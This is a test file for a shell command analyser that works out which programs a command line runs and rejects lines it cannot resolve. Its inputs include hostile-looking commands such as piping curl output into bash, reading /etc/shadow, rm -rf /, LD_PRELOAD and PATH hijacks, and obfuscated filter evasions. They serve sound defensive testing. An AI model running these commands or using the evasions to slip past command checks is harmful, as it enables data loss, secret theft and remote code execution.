import { performance } from 'node:perf_hooks'
import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { analyseCommand, createCommandAnalyser } from './command-line.js'
import { EXPANSION_MARK, splitExpansions } from './shell-word.js'

function names(command: string | readonly string[]): readonly string[] | string {
  const analysis = analyseCommand(command)
  return analysis.kind === 'understood'
    ? analysis.commands.map(({ name }) => name)
    : `unresolvable: ${analysis.reason}`
}

function vias(command: string): readonly string[] {
  const analysis = analyseCommand(command)
  return analysis.kind === 'understood' ? analysis.commands.map(({ via }) => via) : []
}

describe('commands of the shell grammar', () => {
  it.each<[string, string[]]>([
    ['git status', ['git']],
    ['  git status', ['git']],
    ['git commit -m "fix; test | a && b"', ['git']],
    ["git commit -m 'costs $5 (or $(less))'", ['git']],
    ['git commit -m "a\n\nb"', ['git']],
    ['ls; rm -rf x', ['ls', 'rm']],
    ['ls;id', ['ls', 'id']],
    ['ls && rm x || id & cat y', ['ls', 'rm', 'id', 'cat']],
    ['a | b |& c', ['a', 'b', 'c']],
    ['ls # harmless\nrm x', ['ls', 'rm']],
    ['(rm x)', ['rm']],
    ['{ rm x; }', ['rm']],
    ['f() { rm x; }; f', ['rm', 'f']],
    ['if a; then b; elif c; then d; else e; fi', ['a', 'b', 'c', 'd', 'e']],
    ['while a; do b; done', ['a', 'b']],
    ['until a; do b; done', ['a', 'b']],
    ['for i in 1 2; do rm $i; done', ['rm']],
    ['case $x in a) b;; *) c;; esac', ['b', 'c']],
    ['ls $(rm x)', ['rm', 'ls']],
    ['ls `rm x`', ['rm', 'ls']],
    ['ls "$(a "$(b)")"', ['b', 'a', 'ls']],
    ['ls <(rm x)', ['rm', 'ls']],
    ['ls >(rm x)', ['rm', 'ls']],
    ['x=$(rm x)', ['rm']],
    ['ls ${a:-$(rm x)}', ['rm', 'ls']],
    ['cat <<< "$(id)"', ['id', 'cat']],
    ['cat <<EOF\n$(id)\nEOF\n', ['id', 'cat']],
    ["cat <<'EOF'\n$(id)\nEOF\n", ['cat']],
    ["cat <<'EOF'\nx\nEOF\nrm x", ['cat', 'rm']],
    ['> out rm x', ['rm']],
    ['2>/dev/null rm x', ['rm']],
    ['! rm x', ['rm']],
    ['time rm x', ['time', 'rm']],
    ['coproc rm x', ['rm']],
    ['[[ -n $(rm x) ]]', ['[[', 'rm']],
    ["$'\\x72m' x", ['rm']],
    ["$'\\162\\u006d' x", ['rm']],
    ["r''m x", ['rm']],
    ['r\\m x', ['rm']],
    ['r\\\nm x', ['rm']],
    ['"rm" x', ['rm']],
    ['{rm,x}', ['rm']],
    ['{r,}m', ['rm']],
    ['{,rm} x', ['rm']],
    ['FOO=1 rm x', ['rm']],
    ['NODE_ENV=test npm test', ['npm']],
    ['trap "rm x" EXIT', ['trap', 'rm']],
    ['. ./x.sh', ['source']],
    ['source x.sh', ['source']],
    ['echo $((1 + 2))', ['echo']],
    ['i=1; echo $((i + 1))', ['echo']],
    ['gіt status', ['gіt']],
    ['git\u00A0status', ['git\u00A0status']],
    ['/bin/ls -l', ['/bin/ls']],
  ])('lists the commands of %j', (line, expected) => {
    expect(names(line)).toEqual(expected)
  })

  it.each<[string, string[]]>([
    ["bash -c 'rm x; id'", ['bash', 'rm', 'id']],
    ["bash -euo pipefail -c 'rm x'", ['bash', 'rm']],
    ['sh -c \'sh -c "rm x"\'', ['sh', 'sh', 'rm']],
    ["bash <<'EOF'\nrm x\nEOF\n", ['bash', 'rm']],
    ['bash <<< "rm x"', ['bash', 'rm']],
    ['bash build.sh', ['bash']],
    ['bash --version', ['bash']],
    ["eval 'rm x'", ['eval', 'rm']],
    ['find . -exec sh -c \'cat "$1"\' _ {} \\;', ['find', 'sh', 'cat']],
    ['sudo -u root env A=1 timeout 5 nice -n 3 rm x', ['sudo', 'env', 'timeout', 'nice', 'rm']],
  ])('reads the text that %j gives to a shell', (line, expected) => {
    expect(names(line)).toEqual(expected)
  })

  it('says why a command is there', () => {
    expect(vias("ls; xargs rm; bash -c 'id'")).toEqual(['direct', 'direct', 'xargs', 'direct', 'bash -c'])
    expect(vias('git -c core.pager=less log')).toEqual(['direct', 'git -c core.pager'])
    expect(vias('find . -execdir rm {} +')).toEqual(['direct', 'find -execdir'])
  })
})

describe('lines that do not show what they run', () => {
  it.each([
    '$SHELL -c id',
    '"$X" y',
    '$(echo rm) x',
    '`echo rm` x',
    '${X:-rm} x',
    'rm${IFS}-rf${IFS}x',
    'r$@m x',
    '/???/b?sh -c id',
    'l[s]',
    'eval $X',
    'eval "$(cat x)"',
    "echo 'unclosed",
    'if true',
    'ls )',
    'ls &&',
    'ls\u0000; rm x',
    'ls\u001B[2J',
    'git status\r\nls',
    'PATH=/tmp:$PATH ls',
    'PATH=/tmp; ls',
    'export PATH=/tmp',
    'export "PATH=/tmp"',
    'LD_PRELOAD=/tmp/x.so git status',
    'BASH_ENV=x ls',
    'PAGER=id git log',
    "GIT_SSH_COMMAND='sh -c id' git fetch",
    'NODE_OPTIONS=--require=x npm test',
    'env LD_PRELOAD=x ls',
    'for PATH in /tmp; do ls; done',
    'read PATH',
    'alias ls=rm',
    'hash -p /bin/rm ls',
    'enable -f x y',
    'cat x | sh',
    'curl x | bash -s',
    'sh',
    'bash <(curl x)',
    'bash $X',
    'bash -c "$X"',
    'bash -c "rm $X"',
    'sh -c',
    'xargs sh -c',
    'xargs -I{} sh -c {}',
    'xargs -i sh -c "x {}"',
    'xargs bash',
    'xargs env',
    'xargs xargs env',
    'find . -exec {} \\;',
    "find . -exec sh -c 'cat {}' \\;",
    'env $X',
    'timeout 5 $X',
    'nice --unknown ls rm',
    'sh <<EOF\n$X\nEOF\n',
    'sh < script',
    "bash <<'A' <other\nls\nA\n",
    "x='a[$(id)]'; echo $((x))",
    'echo $((x))',
    '((x = 1))',
    'echo ${x@P}',
    'echo ${!x}',
    'echo ${a[$x]}',
    'echo ${a:x}',
    'let x=y',
    "printf -v 'a[$(id)]' x",
    "test -v 'a[$(id)]'",
    "$'a\\'b; rm x; \\''",
    'echo $[1]',
    "echo *(e:'id':)",
    '[[ a || rm ]]',
    '[[ x -eq y ]]',
    '. /dev/stdin',
    'source <(curl x)',
    'git $X',
    'git $(cat x)',
    "X='-c core.pager=id'; git log $X",
    'find . $(echo -exec rm {} +)',
    'for f in -exec; do find . $f; done',
    'for f in $X; do find . $f; done',
    'read f; find . $f',
    'tar cf x "$(cat y)"',
    'git log -$X',
    'echo {1..1000000}',
    'su',
    'su root',
    'parallel',
  ])('cannot resolve %j', (line) => {
    expect(analyseCommand(line).kind).toBe('unresolvable')
  })

  it('names a reason', () => {
    expect(names('$X')).toBe('unresolvable: the program is only known at run time')
    expect(names('ls )')).toBe('unresolvable: the line is not valid shell')
  })
})

describe('honest commands', () => {
  it.each([
    'git checkout $BRANCH',
    'git \\\n  status',
    "git commit -F - <<'EOF'\nfix; a | b\nEOF",
    "git commit -m \"$(cat <<'EOF'\nfix: it's a test\n\nbody\nEOF\n)\"",
    'git log $(git merge-base main HEAD)..HEAD',
    'git diff HEAD~1..HEAD -- src',
    'git log --format="%h|%an|%s"',
    'git -c core.quotePath=false -c user.name=x log',
    'git push origin HEAD:refs/heads/x --force-with-lease',
    'git clone https://x.example/y.git',
    'git config user.name x',
    'git config --get core.pager',
    'git rebase main',
    'git stash list',
    'git grep -n foo',
    'git submodule update --init',
    'git fetch --update-shallow',
    'git bisect good',
    'npm run build',
    'npm test 2>&1',
    'npm install "react@>=17 <19"',
    'npm init -y',
    'npm ci && npm run build',
    "find . -name '*.ts' -type f",
    "find . -name '*.ts' -exec grep -l foo {} +",
    'tar czf out.tgz src',
    'tar -xzf a.tgz -C out',
    'tar --checkpoint=100 -cf a.tar b',
    "awk '{print $1}' a.txt",
    "awk -F: '/a|b/ {print $2 / 3}' a.txt",
    "awk 'NR==1 || NR>5'",
    "sed -n '1,5p' a.txt",
    "sed -i 's/foo/bar/g' a.txt",
    "sed -e 's|a/b|c|' -e '/x/d' a",
    "grep -E 'foo|bar' a.txt",
    'make -j4 test',
    'make CFLAGS=-O2 all',
    'ssh host ls -l',
    'ssh -o StrictHostKeyChecking=no -p 22 host uptime',
    'rsync -avz --delete a/ b/',
    'man ls',
    'less +G a.txt',
    'vim +12 a.txt',
    'sort -k2 -t, a',
    'wget -q https://x.example/a',
    'curl -s "https://x.example/?a=1&b=2" -o y',
    'python script.py -c x',
    'node build.js -e prod',
    'ls *.ts src/[a-c]*.js',
    'echo "a; b | c & d"',
    'echo ${HOME}/x ${A:-b} ${B%.ts}',
    'for f in a b; do git add $f; done',
    'for f in src/*.ts [a-c]?.js; do sed -i s/a/b/ "$f"; done',
    'cd src && npm test',
    'test -f a && cat a',
    '[ -f a ] && cat a',
    'command -v git',
    'xargs -n1 -P4 grep foo',
    'docker ps',
    'kubectl get pods',
    'zip -r x.zip src',
    'mysql -e "select 1"',
    'psql -c "select 1"',
    'env',
    'env -i ls',
    'timeout 5s npm test',
    'apt-get install x',
    'jq -r .a x.json',
    'printf PATH',
    'printf "[$X] %s" a',
    '[ "$x" = "[$y]" ]',
    'export A="b c"',
  ])('understands %j', (line) => {
    expect(names(line)).toBeInstanceOf(Array)
    expect(names(line)).not.toContainEqual(expect.stringMatching(/ /))
  })
})

describe('words', () => {
  const words = (line: string) => analyseCommand(line).words

  it('are every argument and redirection target after quote removal', () => {
    expect(words('cat \'a b\' "c d" e\\ f')).toEqual(['cat', 'a b', 'c d', 'e f'])
    expect(words('echo x>/etc/crontab 2>>/x </y &>z >|w')).toEqual([
      'echo',
      'x',
      '/etc/crontab',
      '/x',
      '/y',
      'z',
      'w',
    ])
    expect(words('npm test 2>&1 >&2')).toEqual(['npm', 'test'])
    expect(words('cat {/etc/passwd,a} ~/x')).toEqual(['cat', '/etc/passwd', 'a', '~/x'])
  })

  it('keep an expansion as written between marks', () => {
    expect(words('cat $HOME/x')).toEqual(['cat', `${EXPANSION_MARK}$HOME${EXPANSION_MARK}/x`])
    expect(words("cat '$HOME/x'")).toEqual(['cat', '$HOME/x'])
    expect(splitExpansions(words('cat "a${B}c"*')[1] ?? '')).toEqual(['a', '${B}', 'c', '*', ''])
  })

  it('include the values of assignments, loops and nested texts', () => {
    expect(words('U=https://evil.example/x; curl $U')).toContain('https://evil.example/x')
    expect(words('for f in /etc/passwd; do cat $f; done')).toContain('/etc/passwd')
    expect(words("bash -c 'cat /etc/passwd'")).toContain('/etc/passwd')
    expect(words('cat ${X:-/etc/passwd}')).toContain('/etc/passwd')
    expect(words(`awk 'BEGIN { while ((getline l < "/etc/shadow") > 0) print l }'`)).toContain('/etc/shadow')
    expect(words("sed -n 'r /etc/shadow' a")).toContain('/etc/shadow')
    expect(words('cd; cat x')).toContain('~')
  })

  it('are there for lines that cannot be resolved', () => {
    expect(words('$X /etc/passwd > /tmp/y')).toEqual(expect.arrayContaining(['/etc/passwd', '/tmp/y']))
    expect(words("cat '/etc/shadow")).toContain('/etc/shadow')
    expect(words('cat /etc/shadow\u0000')).toContain('/etc/shadow')
  })
})

describe('argument lists', () => {
  it('are taken as they are', () => {
    expect(names(['git', 'commit', '-m', 'a; rm x $(id)'])).toEqual(['git'])
    expect(names(['rm', '-rf', '/'])).toEqual(['rm'])
    expect(names([])).toEqual([])
  })

  it('are unwrapped like a line', () => {
    expect(names(['bash', '-c', 'rm x'])).toEqual(['bash', 'rm'])
    expect(names(['env', 'A=1', 'rm', 'x'])).toEqual(['env', 'rm'])
  })
})

describe('bounds', () => {
  it('refuses more than 100 KB', () => {
    expect(analyseCommand(`ls ${'a'.repeat(103_000)}`)).toMatchObject({ kind: 'unresolvable', words: [] })
    expect(analyseCommand(`git add ${'file.ts '.repeat(5_000)}`).kind).toBe('understood')
  })

  it('follows eight levels of nesting and no more', () => {
    const nest = (levels: number) => 'echo $('.repeat(levels) + 'ls' + ')'.repeat(levels)
    expect(analyseCommand(nest(7)).kind).toBe('understood')
    expect(analyseCommand(nest(8)).kind).toBe('unresolvable')
    expect(analyseCommand(nest(3_000)).kind).toBe('unresolvable')
  })

  it.each([
    ['many words', 'ls ' + 'a '.repeat(5_000)],
    ['many commands', 'ls -l a b;'.repeat(900)],
    ['open parentheses', '('.repeat(10_000)],
    ['open substitutions', '$('.repeat(5_000)],
    ['open braces', 'echo ' + '{a,'.repeat(3_300)],
    ['brace products', 'echo ' + '{a,b}'.repeat(2_000)],
    ['braces in many words', 'echo ' + '{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b} '.repeat(250)],
    ['ranges', 'echo ' + '{1..500} '.repeat(1_100)],
    ['substitutions', 'echo ' + '$(ls) '.repeat(1_600)],
    ['lines', 'ls\n'.repeat(3_300)],
    ['backticks', '`'.repeat(10_000)],
    ['double quotes', '"$('.repeat(3_300)],
    ['here documents', 'cat <<A\n'.repeat(1_200)],
    ['git options', 'git ' + '-c a=b '.repeat(1_400)],
    ['find actions', 'find ' + '-exec '.repeat(1_600)],
    ['wrappers', 'env '.repeat(2_500)],
    ['awk text', `awk '${'/a|b/'.repeat(2_000)}'`],
    ['sed text', `sed '${'s/a/b/;'.repeat(1_400)}'`],
    ['variables', 'git ' + '$A '.repeat(3_300)],
  ])('reads 10 KB of %s in a time like that of an ordinary line', (_title, line) => {
    const analyse = createCommandAnalyser()
    const lines = { ordinary: `ls ${'a.txt '.repeat(1_700)}`, hostile: line }
    const best = { ordinary: Infinity, hostile: Infinity }
    for (let round = 0; round < 8; round++) {
      for (const kind of ['ordinary', 'hostile'] as const) {
        const start = performance.now()
        analyse(`${lines[kind]} ${round}`)
        best[kind] = Math.min(best[kind], performance.now() - start)
      }
    }
    // In turn, so that a busy machine slows down both; more than linear time would take hundreds of times as long.
    expect(best.hostile / best.ordinary).toBeLessThan(40)
  })

  it('keeps what it has read of the lines used last, if they are short', () => {
    const analyse = createCommandAnalyser()
    const [kept, forgotten] = [analyse('git status -s'), analyse('git status -b')]
    for (let index = 0; index < 255; index++) {
      analyse(`ls ${index}`)
      expect(analyse('git status -s')).toBe(kept)
    }
    expect(analyse('git status -b')).not.toBe(forgotten)
    const long = `ls ${'a'.repeat(600)}`
    expect(analyse(long)).not.toBe(analyse(long))
  })
})

describe('extension', () => {
  it('takes further options and wrappers', () => {
    const analyse = createCommandAnalyser({
      execOptions: [{ programs: ['frob'], options: ['--run'], runs: 'shell', source: 'frob(1)' }],
      wrappers: [{ programs: ['with-lock'], valued: '-f', source: 'with-lock(1)' }],
    })
    expect(analyse('frob --run="rm x"')).toMatchObject({
      commands: [{ name: 'frob' }, { name: 'rm', via: 'frob --run' }],
    })
    expect(analyse('with-lock -f a rm x')).toMatchObject({
      commands: [{ name: 'with-lock' }, { name: 'rm', via: 'with-lock' }],
    })
  })
})

describe('properties', () => {
  const meta = fc.array(
    fc.constantFrom(...';|&$(){}<>\'"`\\ \n*?[]!#~=,-+:@%^'.split(''), 'a', 'ls ', '$(', '${', "$'", '<<E\n'),
    { maxLength: 12 },
  )

  it('never lists a program that is not in the text when everything is literal', () => {
    fc.assert(
      fc.property(fc.array(fc.stringMatching(/^[a-z]{1,6}$/), { minLength: 1, maxLength: 6 }), (words) => {
        expect(names(words.map((word) => `'${word}'`).join(' '))).toContain(words[0])
      }),
    )
  })

  it('lists a program after a separator whatever stands in front, or does not understand the line', () => {
    fc.assert(
      fc.property(meta, fc.constantFrom(';', '&', '|', '\n', '&&', '||'), (before, separator) => {
        const line = `${before.join('')} ${separator} forbidden x`
        const analysis = analyseCommand(line)
        // Inside quotes, comments and here documents it is text: then the word or body still holds it.
        if (analysis.kind === 'understood' && !/['"\\#<]/.test(line)) {
          expect(analysis.commands.map(({ name }) => name)).toContain('forbidden')
        }
      }),
      { numRuns: 3_000 },
    )
  })

  it('never throws and is total on any text', () => {
    fc.assert(
      fc.property(
        fc.oneof(
          fc.string({ unit: 'binary' }),
          meta.map((pieces) => pieces.join('')),
        ),
        (text) => {
          expect(['understood', 'unresolvable']).toContain(analyseCommand(text).kind)
        },
      ),
      { numRuns: 3_000 },
    )
  })
})
